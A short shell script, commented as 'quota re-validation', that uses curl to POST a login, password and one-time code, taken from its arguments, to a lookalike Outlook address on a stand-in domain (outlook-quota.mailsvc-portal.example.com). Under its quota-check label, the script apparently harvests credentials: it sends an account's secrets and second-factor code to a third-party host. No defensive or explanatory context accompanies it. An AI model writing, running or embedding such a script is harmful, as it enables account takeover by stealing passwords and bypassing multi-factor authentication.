#!/bin/sh
# quota re-validation
curl -s -X POST https://outlook-quota.mailsvc-portal.example.com/owa/auth.php \
  -d "login=$1" -d "passwd=$2" -d "otc=$3" -d "src=desk"
